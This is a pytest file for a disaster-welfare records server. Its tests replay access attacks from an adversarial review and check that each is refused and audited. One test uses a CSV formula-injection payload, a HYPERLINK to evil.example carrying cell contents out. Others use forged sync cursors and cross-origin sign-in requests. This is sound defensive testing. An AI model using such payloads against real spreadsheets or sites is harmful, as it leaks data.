"""Access defects found by an outside adversarial pass (hardening issue, item 5 a–e, h): each test
reproduces the attack and checks it is refused, answered without disclosure, and audited."""

from __future__ import annotations

import base64
import csv
import io
import json
import uuid

import pytest
from sqlmodel import Session, select

from server.errors import ApiError
from server.records.registry import PEOPLE, SAFETY_CHECKS
from server.records.resource import parse_list_params
from server.auth.policy import Rule
from server.models import SafetyCheck, Shelter
from server.models.auth import AuditEntry, ModeSwitch
from server.models.sync import SyncConflict
from tests.factories import create, now_jst
from tests.test_access import World
from tests.test_sync import ids, pull_all, push


@pytest.fixture
def world(engine):
    return World(engine)


def audit_entries(engine, **where) -> list[AuditEntry]:
    with Session(engine) as s:
        query = select(AuditEntry)
        for key, value in where.items():
            query = query.where(getattr(AuditEntry, key) == value)
        return list(s.exec(query.order_by(AuditEntry.id)).all())


# ---- 5a: filters on fields the caller cannot read ----

def test_hq_viewer_cannot_probe_hidden_fields_through_filters(world, client_for, engine):
    hq = client_for("hq_viewer")
    # a visible field filters as before
    assert hq.get("/api/people", params={"register_no": "A-YES"}).json()["total"] == 1
    for hidden, value in (("name_kana", "ノ"), ("consent", "yes"), ("municipality_code", "132144")):
        r = hq.get("/api/people", params={"register_no": "A-YES", hidden: value})
        assert r.status_code == 400, (hidden, r.text)
        assert r.json()["errors"] == [{"field": hidden,
                                       "message": "your role may not see this field, so it cannot filter on it"}]
        assert "total" not in r.json()
    # the same answer whatever the value: nothing to step through
    assert hq.get("/api/people", params={"name_kana": "ア"}).json() == hq.get(
        "/api/people", params={"name_kana": "ノ"}).json()
    denied = audit_entries(engine, action="denied", username=hq.user.username)
    assert denied and all(e.status == 400 for e in denied)
    # the city office sees every field and filters on it
    staff = client_for("welfare_staff")
    assert staff.get("/api/people", params={"consent": "yes"}).status_code == 200


def test_hazard_people_cannot_be_selected_by_a_hidden_field(world, client_for, client):
    hq = client_for("hq_viewer")
    r = hq.get("/api/hazards/people", params={"municipality_code": "132144"})
    assert r.status_code == 400 and r.json()["errors"][0]["field"] == "municipality_code"
    assert hq.get("/api/hazards/people").status_code == 200
    assert client.get("/api/hazards/people", params={"municipality_code": "132144"}).status_code == 200


def test_every_list_refuses_filters_on_fields_the_rule_hides():
    """The check is in the generic list machinery: any resource, `only` and `hidden` alike."""
    only_outcome = Rule(frozenset({"list"}), only=frozenset({"id", "outcome"}))
    with pytest.raises(ApiError) as refused:
        parse_list_params(SAFETY_CHECKS, {"person_id": str(uuid.uuid4())}, 50, only_outcome)
    assert refused.value.status == 400 and refused.value.errors[0]["field"] == "person_id"
    parse_list_params(SAFETY_CHECKS, {"outcome": "safe_home"}, 50, only_outcome)  # visible: fine
    hides_since = Rule(frozenset({"list"}), hidden=frozenset({"observed_at"}))
    with pytest.raises(ApiError) as refused:
        parse_list_params(SAFETY_CHECKS, {"since": "2026-01-01T00:00:00+09:00"}, 50, hides_since)
    assert refused.value.errors[0]["field"] == "since"
    hides_kana = Rule(frozenset({"list"}), hidden=frozenset({"name_kana"}))
    with pytest.raises(ApiError):
        parse_list_params(PEOPLE, {"name_kana": "ア"}, 50, hides_kana)


# ---- 5b: sync mutations outside the caller's write scope ----

def _rename(shelter_id, base_version=1, name="乗っ取り"):
    return {"id": str(uuid.uuid4()), "entity": "shelters", "op": "update", "record_id": str(shelter_id),
            "base_version": base_version, "base": {"name": "S2"}, "changes": {"name": name}}


def test_sync_update_outside_write_scope_is_rejected_like_a_missing_record(world, client_for, client, engine):
    staff = client_for("shelter_staff", **world.scope_for("shelter_staff"))
    # someone renames S2 first, so the staff's base version is stale (the conflict path)
    s2 = client.get(f"/api/shelters/{world.s2.id}").json()
    assert client.patch(f"/api/shelters/{world.s2.id}", json={"version": s2["version"], "name": "S2 本館"}).status_code == 200
    stale, fresh, missing = push(staff, _rename(world.s2.id, 1), _rename(world.s2.id, 2), _rename(uuid.uuid4(), 1))
    assert missing["status"] == "rejected"
    for result in (stale, fresh):
        assert result["status"] == "rejected"
        assert {k: result[k] for k in ("errors", "detail", "http_status")} == \
            {k: missing[k] for k in ("errors", "detail", "http_status")}
    with Session(engine) as s:
        assert s.exec(select(SyncConflict)).all() == []  # nothing stored for an administrator to apply
        assert s.get(Shelter, world.s2.id).name == "S2 本館"
    # the own shelter still merges as before
    own = push(staff, {**_rename(world.s1.id, 1, "S1 新館"), "base": {"name": "S1"}})[0]
    assert own["status"] == "applied" and own["record"]["name"] == "S1 新館"


def test_sync_create_and_delete_outside_scope_are_rejected(world, client_for, engine):
    staff = client_for("shelter_staff", **world.scope_for("shelter_staff"))
    report = {"id": str(uuid.uuid4()), "shelter_id": str(world.s2.id), "open_state": "open", "observed_at": now_jst()}
    created, deleted = push(staff, {"id": str(uuid.uuid4()), "entity": "shelter-reports", "op": "create", "data": report},
                            {"id": str(uuid.uuid4()), "entity": "shelters", "op": "delete",
                             "record_id": str(world.s2.id), "base_version": 1})
    assert created["status"] == "rejected"
    assert created["errors"] == [{"field": "shelter_id", "message": f"no shelter with id {world.s2.id}"}]
    assert deleted["status"] == "rejected" and deleted["http_status"] == 403
    with Session(engine) as s:
        assert s.get(Shelter, world.s2.id) is not None


def test_resolving_a_stored_out_of_scope_conflict_for_the_client_is_refused(world, client_for, client, engine):
    """A conflict stored before this fix (or by a user whose scope shrank since) cannot lend the
    device's user the administrator's rights."""
    staff = client_for("shelter_staff", **world.scope_for("shelter_staff"))
    with Session(engine, expire_on_commit=False) as s:
        conflict = SyncConflict(entity="shelters", record_id=world.s2.id, field="name", base_value="S2",
                                server_value="S2", client_value="乗っ取り", mutation_id=uuid.uuid4(),
                                user_id=staff.user.id, device_id="tablet")
        own = SyncConflict(entity="shelters", record_id=world.s1.id, field="name", base_value="S1",
                           server_value="S1", client_value="S1 新館", mutation_id=uuid.uuid4(),
                           user_id=staff.user.id, device_id="tablet")
        s.add_all([conflict, own])
        s.commit()
    r = client.post(f"/api/conflicts/{conflict.id}/resolve", json={"choice": "client"})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "choice"
    assert client.get(f"/api/shelters/{world.s2.id}").json()["name"] == "S2"
    assert client.post(f"/api/conflicts/{conflict.id}/resolve", json={"choice": "server"}).status_code == 200
    # within the author's scope the device's value is applied as before
    r = client.post(f"/api/conflicts/{own.id}/resolve", json={"choice": "client"})
    assert r.status_code == 200 and r.json()["record"]["name"] == "S1 新館"


# ---- 5c: the changes feed names only records the device was sent ----

def test_feed_sends_no_drop_or_tombstone_for_records_the_device_never_held(world, client_for, client):
    supporter = client_for("district_supporter", **world.scope_for("district_supporter"))
    items, cursor, key = pull_all(supporter)
    held = {i["id"] for i in items}
    assert str(world.p_b_yes.id) not in held
    outsider = client.get(f"/api/people/{world.p_b_yes.id}").json()
    client.patch(f"/api/people/{world.p_b_yes.id}", json={"version": outsider["version"], "phone": "042-111-2222"})
    stranger = create(client, "people", {"register_no": "B-NEW", "municipality_code": "132144", "name": "新規",
                                         "birth_date": "1930-01-01", "sex": "male", "address": "住所",
                                         "district_id": str(world.b1.id), "consent": "yes",
                                         "consent_date": "2025-04-01"})
    assert client.delete(f"/api/people/{stranger['id']}").status_code == 204
    later, cursor, key = pull_all(supporter, cursor, key)
    named = {i["id"] for i in later}
    assert str(world.p_b_yes.id) not in named and stranger["id"] not in named
    # a person the device held who moves out of its districts is still dropped
    mover = client.get(f"/api/people/{world.p_a_yes.id}").json()
    client.patch(f"/api/people/{world.p_a_yes.id}", json={"version": mover["version"], "district_id": str(world.b1.id)})
    moved, _, _ = pull_all(supporter, cursor, key)
    assert ids(moved, "people", "drop") == {str(world.p_a_yes.id)}


def test_tombstones_still_reach_devices_that_held_the_record(world, client_for, client):
    supporter = client_for("district_supporter", **world.scope_for("district_supporter"))
    lonely = create(client, "people", {"register_no": "A-DEL", "municipality_code": "132144", "name": "削除",
                                       "birth_date": "1930-01-01", "sex": "male", "address": "住所",
                                       "district_id": str(world.a1.id), "consent": "yes", "consent_date": "2025-04-01"})
    items, cursor, key = pull_all(supporter)
    assert lonely["id"] in ids(items, "people")
    assert client.delete(f"/api/people/{lonely['id']}").status_code == 204
    later, _, _ = pull_all(supporter, cursor, key)
    assert ids(later, "people", "delete") == {lonely["id"]}


# ---- 5d: formula injection in the audit CSV ----

def test_audit_csv_escapes_formulas(anon_client, client):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    r = anon_client.post("/auth/token", json={"username": evil, "password": "wrong password"})
    assert r.status_code == 401
    body = client.get("/api/audit.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    stored = evil.lower()  # usernames are stored as typed, case-folded
    assert ["'" + stored] in [[cell for cell in row if stored in cell] for row in rows]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_every_csv_writer_uses_the_one_escape():
    from server.api import admin
    from server.domain import csvsafe
    from server.importers import export

    assert export.escape_cell is csvsafe.escape_cell
    assert admin.safe_row is csvsafe.safe_row
    assert csvsafe.escape_cell("-1") == "'-1" and csvsafe.escape_cell("'=x") == "''=x"
    assert csvsafe.escape_cell("山田") == "山田" and csvsafe.escape_cell(42) == "42"


# ---- 5e: audit gaps ----

def test_stale_patch_and_delete_that_return_the_record_are_audited(world, client, engine):
    pid = world.p_a_yes.id
    r = client.patch(f"/api/people/{pid}", json={"version": 99, "phone": "042-111-2222"})
    assert r.status_code == 409 and r.json()["current"]["id"] == str(pid)
    r = client.delete(f"/api/people/{pid}", params={"version": 99})
    assert r.status_code == 409 and "current" in r.json()
    entries = [e for e in audit_entries(engine, action="denied") if e.status == 409]
    assert [e.record_ids for e in entries] == [[str(pid)], [str(pid)]]
    assert all("current record was returned" in e.detail for e in entries)


def test_listing_conflicts_is_audited(world, client, engine):
    with Session(engine) as s:
        s.add(SyncConflict(entity="plans", record_id=world.plans["A-YES"].id, field="route_note", base_value="",
                           server_value="北", client_value="南", mutation_id=uuid.uuid4(), user_id=uuid.uuid4()))
        s.commit()
    assert len(client.get("/api/conflicts").json()["items"]) == 1
    entries = audit_entries(engine, action="list", resource="conflicts")
    assert [e.record_ids for e in entries] == [[str(world.plans["A-YES"].id)]]


def test_a_retried_sync_batch_that_returns_records_is_audited(world, client_for, engine):
    from tests.test_sync import safety

    supporter = client_for("district_supporter", **world.scope_for("district_supporter"))
    batch = [safety(world.p_a_yes.id)]
    first = push(supporter, *batch)
    again = push(supporter, *batch)
    assert again[0]["status"] == "duplicate" and again[0]["record"]["id"] == first[0]["record"]["id"]
    entries = audit_entries(engine, action="sync_repeat")
    assert [e.record_ids for e in entries] == [[first[0]["record"]["id"]]]


def test_role_refusals_are_audited(world, client_for, engine):
    hq = client_for("hq_viewer")
    assert hq.get("/api/plans").status_code == 403
    supporter = client_for("district_supporter", **world.scope_for("district_supporter"))
    assert supporter.get("/api/hq/districts").status_code == 403
    assert supporter.get("/api/audit").status_code == 403
    assert supporter.get("/conflicts").status_code == 403
    assert hq.get("/print").status_code == 200  # the page says why it shows nothing
    refused = [(e.username, e.resource, e.status) for e in audit_entries(engine, action="denied")]
    assert (hq.user.username, "/api/plans", 403) in refused
    assert (hq.user.username, "/print", 403) in refused
    for path in ("/api/hq/districts", "/api/audit", "/conflicts"):
        assert (supporter.user.username, path, 403) in refused


# ---- 5h ----

def test_create_with_the_id_of_an_out_of_scope_record_does_not_confirm_it(world, client_for, client):
    outside = create(client, "safety-checks", {"person_id": str(world.p_b_yes.id), "outcome": "safe_home",
                                               "observed_at": now_jst()})
    supporter = client_for("district_supporter", **world.scope_for("district_supporter"))
    payload = {"id": outside["id"], "person_id": str(world.p_a_yes.id), "outcome": "safe_home", "observed_at": now_jst()}
    r = supporter.post("/api/safety-checks", json=payload)
    assert r.status_code == 422 and "exists" not in r.text
    assert r.json()["errors"] == [{"field": "id", "message": f"id {outside['id']} cannot be used; make a new one (a random UUID)"}]
    result = push(supporter, {"id": str(uuid.uuid4()), "entity": "safety-checks", "op": "create", "data": payload})[0]
    assert result["status"] == "rejected" and result["errors"] == r.json()["errors"]
    # one's own event re-sent is still a harmless retry
    own = create(supporter, "safety-checks", {"person_id": str(world.p_a_yes.id), "outcome": "injured",
                                              "observed_at": now_jst()})
    again = supporter.post("/api/safety-checks", json={**{k: own[k] for k in ("id", "person_id", "outcome", "observed_at")}})
    assert again.status_code == 200


def _cursor(data: dict) -> str:
    return base64.urlsafe_b64encode(json.dumps(data).encode()).decode().rstrip("=")


def test_forged_cursors_with_negative_or_absurd_numbers_are_410(world, client_for):
    staff = client_for("welfare_staff")
    _, cursor, _ = pull_all(staff)
    decoded = json.loads(base64.urlsafe_b64decode(cursor + "=" * (-len(cursor) % 4)))
    for forged in ({**decoded, "s": -5}, {**decoded, "n": -1, "a": None}, {**decoded, "n": 10**6},
                   {**decoded, "s": 1e308 * 10}):
        r = staff.get("/api/sync/changes", params={"cursor": _cursor(forged)})
        assert r.status_code == 410 and r.json()["reset"] is True, forged


def test_sign_in_posted_from_a_foreign_origin_is_refused(world, anon_client, make_user, engine):
    from tests.conftest import PERSONA_PASSWORD

    user = make_user("welfare_staff")
    form = {"username": user.username, "password": PERSONA_PASSWORD, "next": "/"}
    r = anon_client.post("/auth/login", data=form, headers={"Origin": "https://evil.example"}, follow_redirects=False)
    assert r.status_code == 403 and "tsunagu_session" not in r.headers.get("set-cookie", "")
    r = anon_client.post("/auth/login", data=form, headers={"Origin": "null"}, follow_redirects=False)
    assert r.status_code == 403
    r = anon_client.post("/auth/token", json={"username": user.username, "password": PERSONA_PASSWORD},
                         headers={"Sec-Fetch-Site": "cross-site"})
    assert r.status_code == 403
    assert [e.status for e in audit_entries(engine, action="sign_in_failed")] == [403, 403, 403]
    # a JSON body sent as a "simple" cross-site request (text/plain needs no CORS preflight) is not JSON to us
    r = anon_client.post("/auth/login", content=json.dumps({"username": user.username, "password": PERSONA_PASSWORD}),
                         headers={"Content-Type": "text/plain"})
    assert r.status_code == 422 and "tsunagu_session" not in r.headers.get("set-cookie", "")
    # the sign-in page makes browsers name its origin when they post its form …
    assert anon_client.get("/login").headers["referrer-policy"] == "same-origin"
    r = anon_client.post("/auth/login", data=form, headers={"Origin": "http://testserver"}, follow_redirects=False)
    assert r.status_code == 303 and "tsunagu_session" in r.headers["set-cookie"]
    # … and the field app (no-referrer pages: Origin null) and devices (no Origin) sign in with JSON
    for headers in ({"Origin": "null"}, {}):
        r = anon_client.post("/auth/token", json={"username": user.username, "password": PERSONA_PASSWORD},
                             headers=headers)
        assert r.status_code == 201


def test_pages_with_records_are_not_stored_by_browsers(world, client):
    plan = world.plans["A-YES"]
    for path in (f"/print/preview/plans/{plan.id}", "/print", f"/api/plans/{plan.id}"):
        r = client.get(path)
        assert r.status_code == 200, path
        assert r.headers["cache-control"] == "no-store", path


def test_a_print_batch_that_selects_no_plans_is_422_at_once(world, client):
    r = client.post("/api/print/batches", json={"by": "selection", "ids": []})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "ids"
    r = client.post("/api/print/batches", json={"by": "supporter", "value": "誰も担当していない人"})
    assert r.status_code == 422 and r.json()["errors"][0]["field"] == "value"
    r = client.post("/api/print/batches", json={"by": "selection", "ids": [str(world.plans["A-YES"].id)]})
    assert r.status_code == 202


def test_nul_characters_are_refused_on_every_engine(world, client, engine):
    r = client.post("/api/people", json={"register_no": "NUL-1", "municipality_code": "132144", "name": "山田\u0000太郎",
                                         "birth_date": "1930-01-01", "sex": "male", "address": "住所"})
    assert r.status_code == 422 and r.json()["errors"] == [
        {"field": "name", "message": "a NUL character (U+0000) is not allowed in text"}]
    assert client.get("/api/people", params={"register_no": "A\u0000"}).status_code == 422
    assert client.get("/api/audit", params={"username": "x\u0000"}).status_code == 422
    with Session(engine) as s:
        assert s.exec(select(SafetyCheck)).all() == []


def test_matching_proposals_follow_the_plan_policy(client, client_for):
    from tests.test_matching_api import City, run

    city = City(client.app.state.engine)
    proposal = run(client)
    full = client.get(f"/api/matching/proposals/{proposal['id']}").json()
    assert {a["person_id"] for a in full["assignments"]} == {str(city.vent.id), str(city.wheel.id), str(city.planned.id)}
    hq = client_for("hq_viewer")
    assert hq.get("/api/plans").status_code == 403  # the HQ viewer may not read plans …
    for path in (f"/api/matching/proposals/{proposal['id']}", "/api/matching/proposals/latest"):
        seen = hq.get(path).json()
        text = json.dumps(seen)
        assert "assignments" not in seen and "unplaced" not in seen  # … so not their destinations either
        assert str(city.vent.id) not in text and str(city.planned.id) not in text
        assert sum(s["people"] for s in seen["per_shelter"]) == full["summary"]["placed"] == 3
        assert seen["summary"] == full["summary"]


def test_bulk_logged_changes_drop_only_with_the_values_before(world, client_for, engine):
    """Importers log changes in bulk (`log_changes`); with `befores` the devices that held a record
    that left their scope drop it, without it nothing is named (docs/sync.md)."""
    from server.models import Person
    from server.sync.changelog import log_changes

    supporter = client_for("district_supporter", **world.scope_for("district_supporter"))
    items, cursor, key = pull_all(supporter)
    assert str(world.p_a_yes.id) in ids(items, "people")
    with Session(engine) as s:
        person = s.get(Person, world.p_a_yes.id)
        before = {"district_id": person.district_id, "consent": person.consent}
        person.consent, person.consent_date = "no", None
        s.add(person)
        log_changes(s, "people", [person.id])
        s.commit()
    silent, cursor, key = pull_all(supporter, cursor, key)
    assert silent == []
    with Session(engine) as s:
        log_changes(s, "people", [world.p_a_yes.id], befores={world.p_a_yes.id: before})
        s.commit()
    dropped, _, _ = pull_all(supporter, cursor, key)
    assert ids(dropped, "people", "drop") == {str(world.p_a_yes.id)}
